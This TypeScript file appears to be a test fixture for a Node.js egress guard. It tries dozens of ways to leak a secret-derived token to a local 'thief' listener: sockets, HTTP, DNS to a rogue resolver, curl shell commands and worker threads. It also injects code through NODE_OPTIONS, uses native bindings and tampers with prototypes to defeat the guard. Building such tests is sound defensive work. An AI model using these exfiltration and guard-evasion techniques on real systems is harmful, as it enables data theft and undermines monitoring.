// A poisoned package: it has a key, and tries every way out of the process that it can think of. It is no example of style:
/* eslint-disable @typescript-eslint/no-misused-new, @typescript-eslint/no-deprecated, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-return, @typescript-eslint/unbound-method */
import childProcess from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns";
import dnsPromises from "node:dns/promises";
import { once } from "node:events";
import { mkdtempSync, writeFileSync } from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import module, { createRequire } from "node:module";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import tls from "node:tls";
import { pathToFileURL } from "node:url";
import workers from "node:worker_threads";

/** Where the thief listens. */
export interface Target {
  readonly tcp: number;
  readonly udp: number;
  readonly path: string;
  readonly allowed: number;
  /** This repository's program. */
  readonly program: string;
}

type Way = (word: string, target: Target) => unknown;
/** Whatever Node has that its types do not tell of. */
interface Loose {
  (...args: unknown[]): Loose;
  new (...args: unknown[]): Loose;
  readonly [name: string]: Loose;
}

const HOST = "127.0.0.1";
const folder = mkdtempSync(join(tmpdir(), "caucus-poison-"));
const file = (name: string, text: string): string => {
  writeFileSync(join(folder, name), text);
  return join(folder, name);
};
/** Resolves when something has come to an end, well or badly. */
const over = (thing: { on(event: string, listener: () => void): unknown }): Promise<void> => new Promise((done) => ["close", "error", "exit", "response"].forEach((event) => thing.on(event, done)));
const sender = (word: string, { tcp }: Target): string => `require("node:net").connect(${tcp}, "${HOST}", function () { this.end(${JSON.stringify(word)}); }).on("error", () => {});`;
const part = (value: unknown, name: string): Loose => (value as Record<string, Loose>)[name]!;
const thread = (word: string, target: Target, options: object): Promise<void> => over(new workers.Worker(sender(word, target), { eval: true, ...options }));

/** Every way, by a name; what it sends is a word made of the key and that name. */
export const WAYS: Readonly<Record<string, Way>> = {
  net: (word, { tcp }) => {
    const socket = net.connect(tcp, HOST, () => socket.end(word));
    return over(socket);
  },
  "net by another name": (word, { tcp }) => {
    const socket = new net.Socket().connect({ port: tcp, host: "thief.example", lookup: (_host, options, told) => (options.all ? told(null, [{ address: HOST, family: 4 }]) : told(null, HOST, 4)) }, () => socket.end(word));
    return over(socket);
  },
  "net over IPv6": (word, { tcp }) => {
    const socket = net.connect(tcp, `::ffff:${HOST}`, () => socket.end(word));
    return over(socket);
  },
  http: (word, { tcp }) => over(http.get({ host: HOST, port: tcp, path: `/${word}` })),
  "http of an agent": (word, { tcp }) => over(http.get({ host: HOST, port: tcp, path: `/${word}`, agent: new http.Agent({ keepAlive: true }) })),
  https: (word, { tcp }) => over(https.get({ host: HOST, port: tcp, servername: `${word}.example`, rejectUnauthorized: false })),
  tls: (word, { tcp }) => over(tls.connect({ host: HOST, port: tcp, servername: `${word}.example`, rejectUnauthorized: false })),
  http2: (word, { tcp }) => {
    const session = http2.connect(`http://${HOST}:${tcp}`);
    // Paths are compressed on the wire; what is posted is not.
    session.request({ ":path": "/", ":method": "POST" }).on("error", () => undefined).end(word);
    setTimeout(() => session.destroy(), 40);
    return over(session);
  },
  fetch: (word, { tcp }) => fetch(`http://${HOST}:${tcp}/${word}`, { method: "POST", body: word }),
  "fetch that is sent on": (word, { allowed }) => fetch(`http://${HOST}:${allowed}/${word}`),
  websocket: (word, { tcp }) => over({ on: (event, told) => new WebSocket(`ws://${HOST}:${tcp}/${word}`).addEventListener(event, told) }),
  dgram: (word, { udp }) => {
    const socket = dgram.createSocket("udp4");
    return new Promise<void>((done) => socket.send(word, udp, HOST, () => socket.close(() => done())));
  },
  "dgram that is connected": async (word, { udp }) => {
    const socket = dgram.createSocket("udp4").on("error", () => undefined);
    socket.connect(udp, HOST);
    await once(socket, "connect");
    await new Promise<void>((done) => socket.send(word, () => socket.close(() => done())));
  },
  "a unix socket": (word, { path }) => {
    const socket = net.connect(path, () => socket.end(word));
    return over(socket);
  },
  "dns resolve at another server": (word, { udp }) => {
    const resolver = new dns.Resolver({ timeout: 20, tries: 1 });
    resolver.setServers([`${HOST}:${udp}`]);
    return new Promise<void>((done) => resolver.resolveTxt(`${word}.example`, () => done()));
  },
  "dns promises at another server": (word, { udp }) => {
    const resolver = new dnsPromises.Resolver({ timeout: 20, tries: 1 });
    resolver.setServers([`${HOST}:${udp}`]);
    return resolver.resolve4(`${word}.example`);
  },
  "dns servers of everybody": async (word, { udp }) => {
    dns.setServers([`${HOST}:${udp}`]);
    await Promise.race([new Promise<void>((done) => dns.resolveMx(`${word}.example`, () => done())), new Promise((done) => setTimeout(done, 40))]);
  },
  curl: (word, { tcp }) => over(childProcess.spawn("curl", ["-s", "-m", "2", `http://${HOST}:${tcp}/${word}`])),
  "a shell": (word, { tcp }) => new Promise<void>((done) => childProcess.exec(`curl -s -m 2 http://${HOST}:${tcp}/${word}`, () => done())),
  "node as a child": (word, target) => over(childProcess.spawn(process.execPath, ["-e", sender(word, target)])),
  "node that is waited for": (word, target) => childProcess.spawnSync(process.execPath, ["-e", sender(word, target)]),
  fork: (word, target) => over(childProcess.fork(file("fork.cjs", `${sender(word, target)} process.disconnect();`))),
  "this program with other code": (word, target) => over(childProcess.spawn(process.execPath, [target.program, "--version"], { env: { ...process.env, NODE_OPTIONS: `--require ${file("option.cjs", sender(word, target))}` } })),
  "this program with a poisoned flag": (word, target) => over(childProcess.spawn(process.execPath, ["--require", file("flag.cjs", sender(word, target)), target.program, "--version"])),
  "this program as a messenger": (word, { tcp, program }) => {
    const words = ["data", "download", "--source", "fear-greed", "--data-dir", join(folder, word), "--url", `http://${HOST}:${tcp}/${word}`];
    return over(childProcess.spawn(process.execPath, [program, ...words], { env: { PATH: process.env["PATH"], CAUCUS_EGRESS_CEILING: `${HOST}:${tcp},~${HOST}:${tcp}` } }));
  },
  "a thread": (word, target) => thread(word, target, {}),
  "a thread with options of its own": (word, target) => thread(word, target, { execArgv: [], env: { ...process.env, NODE_OPTIONS: "" } }),
  "a thread that shares the environment": (word, target) => thread(word, target, { env: workers.SHARE_ENV }),
  "a thread of a file": (word, target) => over(new workers.Worker(file("thread.cjs", sender(word, target)))),
  "a thread of another class": (word, target) => {
    class Own extends workers.Worker {}
    return over(new Own(sender(word, target), { eval: true }));
  },
  "a thread of a thread's class": async (word, target) => {
    const first = new workers.Worker("", { eval: true });
    const Original = (Object.getPrototypeOf(first) as { constructor: typeof workers.Worker }).constructor;
    await Promise.all([over(first), over(new Original(sender(word, target), { eval: true }))]);
  },
  "module hooks": async (word, target) => {
    module.register(pathToFileURL(file("hooks.mjs", `import net from "node:net"; net.connect(${target.tcp}, "${HOST}", function () { this.end(${JSON.stringify(word)}); }).on("error", () => {}); await new Promise((done) => setTimeout(done, 30));`)));
    await import(pathToFileURL(file("any.mjs", "")).href);
  },
  "native bindings": (word, { tcp }) => {
    const binding = part(part(process, "binding")("tcp_wrap"), "TCP");
    const handle = new binding(0);
    part(handle, "connect").call(handle, new (part(part(process, "binding")("tcp_wrap"), "TCPConnectWrap"))(), HOST, tcp);
    const socket = new net.Socket({ handle: handle as never });
    setTimeout(() => socket.end(word), 20);
    return over(socket);
  },
  "a handle's own connect": (word, { tcp }) => {
    const server = net.createServer().listen(0);
    const prototype = Object.getPrototypeOf(part(server, "_handle")) as object;
    server.close();
    const own = Object.getOwnPropertyDescriptor(prototype, "connect");
    try {
      Object.defineProperty(prototype, "connect", { ...own, configurable: true });
      Object.assign(prototype, { connect: own?.value });
    } catch {
      // It is as it was.
    }
    const socket = net.connect(tcp, HOST, () => socket.end(word));
    return over(socket);
  },
  "Node's libraries once more": (word, { tcp }) => {
    const require = createRequire(import.meta.url);
    Reflect.deleteProperty(require.cache, "net");
    const again = part(module, "_load")("node:net", null, true) as unknown as typeof net;
    for (const fresh of [again, process.getBuiltinModule("node:net")]) fresh.connect(tcp, HOST, function (this: net.Socket) { this.end(word); }).on("error", () => undefined);
    return new Promise((done) => setTimeout(done, 40));
  },
  "changed prototypes": async (word, { tcp }) => {
    const { apply, call } = Function.prototype;
    const { endsWith, indexOf, toLowerCase } = String.prototype;
    const stolen: unknown[] = [];
    // What the guard calls in these ways would fall into our hands, or say yes.
    Function.prototype.call = function (this: unknown, ...args: unknown[]) { stolen.push(this); return Reflect.apply(call, this as never, args); } as never;
    Function.prototype.apply = function (this: unknown, ...args: unknown[]) { stolen.push(this); return Reflect.apply(apply, this as never, args); } as never;
    String.prototype.endsWith = () => true;
    String.prototype.indexOf = () => 0;
    try {
      await over(net.connect(tcp, HOST, function (this: net.Socket) { this.end(word); }));
      for (const native of stolen) if (typeof native === "function" && native.name === "connect") Reflect.apply(native, null, []);
    } finally {
      Object.assign(Function.prototype, { apply, call });
      Object.assign(String.prototype, { endsWith, indexOf, toLowerCase });
    }
  },
  "another process in its place": (word, target) => {
    // Last, since nothing comes after it when it works.
    const { execve } = process as unknown as { readonly execve: (file: string, args: readonly string[]) => void };
    execve(process.execPath, [process.execPath, "-e", sender(word, target)]);
  },
};

/** Tries one way; what it complains of is nobody's business. */
export async function tryWay(name: string, key: string, target: Target): Promise<void> {
  const word = `${key}-${Object.keys(WAYS).indexOf(name)}-x`;
  try {
    await Promise.race([WAYS[name]?.(word, target), new Promise((done) => setTimeout(done, 3_000))]);
  } catch {
    // On to the next one.
  }
}
